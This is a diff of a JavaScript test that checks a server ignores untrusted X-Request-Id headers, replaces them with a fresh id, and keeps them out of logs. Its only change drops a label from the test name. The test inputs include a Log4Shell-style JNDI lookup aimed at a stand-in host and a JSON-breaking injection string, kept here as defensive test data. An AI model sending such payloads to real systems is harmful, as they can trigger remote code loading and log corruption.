@@ -123,7 +123,7 @@ describe('given an X-Request-Id', () => {
     '${jndi:ldap://evil}',
     'a"b":"c12345',
     '4111111111111111',
-  ])('then %# is ignored and a new one is made (H16)', async (given) => {
+  ])('then %# is ignored and a new one is made', async (given) => {
     const answer = await fetch(`${base}/things/1`, { headers: { 'x-request-id': given } });
     expect(answer.headers.get('x-request-id')).toMatch(/^[0-9a-f]{32}$/);
     expect(JSON.stringify(await told(1))).not.toContain(given);
